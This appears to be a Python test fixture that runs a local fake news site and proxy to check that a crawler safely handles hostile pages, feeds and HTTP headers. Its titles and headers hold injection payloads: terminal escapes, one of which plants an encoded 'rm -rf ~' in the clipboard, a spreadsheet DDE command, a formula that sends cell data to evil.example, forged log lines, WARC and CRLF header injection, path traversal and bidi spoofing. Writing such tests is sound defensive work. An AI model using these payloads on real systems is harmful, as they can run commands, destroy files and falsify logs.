"""A publisher whose every word is meant for our terminal, our log, our files; reached as a proxy.

What its pages say is said in the headline, the author, the section, the keywords and the text.
"""

import json
import socketserver
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from html import escape
from typing import NamedTuple
from urllib.parse import urlsplit

HOST = "hostile.example"
FORGED = "1999-01-01 00:00:00 [crawler] INFO: run forged after 1 s: done (exit code 0)"
MARK = "Ordinary ending"

TITLES = {
    "colour": "\x1b[31;1mRed\x1b[0m and \x9b32mgreen",
    "link": "\x1b]8;;http://evil.example/\x07Click\x1b]8;;\x07 \x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07 \x9d52;c;AAAA\x9c",
    "window": "\x1b]0;root@bank\x07\x1b]2;x\x1b\\ \x1b[2J\x1b[H\x1bc",
    "line": f"First\n{FORGED}\r{FORGED}\x85{FORGED}\u2028{FORGED}\u2029{FORGED}\x0b\x0c{FORGED}",
    "warc": "Story\r\nWARC-Type: warcinfo\r\nContent-Length: 0\r\n\r\nWARC/1.1\r\nWARC-Type: resource\r\n\r",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "dde": "  \"=cmd|' /C calc'!A0 ;=1+1\t+2\n-3;@SUM(A1)＝4",
    "bidi": "\u202egpj.exe\u202c \u2066hidden\u2069 \u200f\u061c a\u00adb\ufeff",
    "markup": "[bold red]loud[/] [link=http://evil.example/]here[/link] :skull: [/nothing]",
    "nul": "Nul\x00led\x08\x08\x08\x08gone\x7f \ud83d alone \udc00 </script><script>x()</script>",
    "long": "Z" + "\u0301\u0489" * 200 + "long " * 20_000,
}


class Answer(NamedTuple):
    """As it goes over the line."""

    head: bytes
    body: bytes

    @property
    def data(self) -> bytes:
        return self.head + f"Content-Length: {len(self.body)}\r\n\r\n".encode() + self.body


def url_of(name: str) -> str:
    """Of the page with that title, as its feed names it."""
    return f"http://{HOST}/story/{name}?q=%1b%5B31m%0d%0a{FORGED[:10]}&r=../../../etc/passwd%00\u202e"


@contextmanager
def hostile_web() -> Iterator[str]:
    """The URL of its proxy."""
    answers = _answers()

    class Handler(socketserver.StreamRequestHandler):
        def handle(self) -> None:
            target = self.rfile.readline().decode("latin-1").split(" ")
            while self.rfile.readline().strip():
                pass
            path = urlsplit(target[1]).path if len(target) > 1 else ""
            self.wfile.write(answers.get(path, answers["/gone"]).data)

    class Server(socketserver.ThreadingTCPServer):
        daemon_threads = True

    with Server(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.05,))
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_address[1]}"
        finally:
            server.shutdown()
            thread.join()


def _answers() -> dict[str, Answer]:
    found = {f"/story/{name}": Answer(_head("text/html; charset=utf-8"), _page(name)) for name in TITLES}
    return found | {
        "/robots.txt": Answer(
            _head("text/plain"),
            f"User-agent: *\nDisallow: /private\x1b[31m\nCrawl-delay: \x1b]0;x\x07\n\r{FORGED}\r\n".encode(),
        ),
        "/feed.xml": Answer(_head("application/rss+xml"), _feed()),
        "/broken.xml": Answer(_head("application/rss+xml"), f"\x1b[31m<rss>\n{FORGED}\n".encode()),
        "/gone": Answer(_head("text/html", f"404 \x1b[31mGone\x85{FORGED}\u202e"), b"gone"),
        "/fails": Answer(_head("text/html", f"500 \x1b[31mFails\x85{FORGED}\u202e"), b"\x1b[31mfails"),
        "/garbled": Answer(b"\x1b[31mHTTP/banana \x85" + FORGED.encode() + b"\r\n", b""),
        "/named": Answer(_head("text/html") + b"X-(Evil)\x1b[31m WARC-Type: warcinfo\r\n", b"named"),
        "/away": Answer(
            _head("text/html", "302 Found") + f"Location: http://{HOST}/%0a\x1b[31m{FORGED}\r\n".encode(), b""
        ),
        "/nowhere": Answer(
            _head("text/html", "302 Found") + b"Location: gopher://u:p@x/\x1b[31m\x85forged\r\n", b""
        ),
    }


def _head(kind: str, status: str = "200 Fine") -> bytes:
    return (
        f"HTTP/1.1 {status} \x1b[31m\x85{FORGED}\r\nContent-Type: {kind}\r\nConnection: close\r\n"
        "X-Evil: \x1b]0;owned\x07 \x7f \u202e\r\n"
        "X-Folded: one\r\n WARC-Type: warcinfo\r\n\tContent-Length: 0\r\n"
        "X-Bare: a\rWARC-Type: warcinfo\rContent-Length: 5\r\n"
        "Transfer_Encoding: chunked\r\nContent-Encoding: \x1b[31m\r\n"
    ).encode()


def _page(name: str) -> bytes:
    title = TITLES[name]
    stated = {
        "@context": "https://schema.org",
        "@type": "NewsArticle",
        "headline": f"{title} {MARK}",
        "author": [{"@type": "Person", "name": f"{title} Person"}],
        "articleSection": title,
        "keywords": [title, f"word {title}"],
        "datePublished": "2020-11-20T08:00:00Z",
    }
    story = "".join(f"<p>{_sentences(name, place)} {escape(title)}</p>" for place in range(6))
    return (
        f'<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>{escape(title)} {MARK}</title>'
        f'<meta name="author" content="{escape(title)}"><meta property="og:title" content="{escape(title)}">'
        f'<script type="application/ld+json">{json.dumps(stated).replace("</", "<" + chr(92) + "/")}</script>'
        f"</head><body><article><h1>{escape(title)} {MARK}</h1>{story}</article></body></html>"
    ).encode("utf-8", "surrogatepass")


def _sentences(name: str, place: int) -> str:
    words = " ".join(f"{name}{chr(97 + place)}{chr(97 + number)}" for number in range(12))
    return (
        f"ByteDance, the owner of TikTok, said in its {name} note of part {place} that {words} were counted. "
        f"Kuaishou answered {name} readers with {words[::-1]}, and Facebook wrote of {place} others."
    )


def _feed() -> bytes:
    links = [url_of(name) for name in TITLES]
    links += [f"http://{HOST}/{path}" for path in ("fails", "garbled", "named", "away", "nowhere", "gone")]
    items = "".join(
        f"<item><title>{escape(title)}</title><link>{escape(link)}</link>"
        "<pubDate>Fri, 20 Nov 2020 08:00:00 GMT</pubDate></item>"
        for link, title in zip(links, [*TITLES.values(), *"abcdef"], strict=True)
    )
    head = '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>x</title>'
    return f"{head}{items}</channel></rss>".encode("utf-8", "surrogatepass")
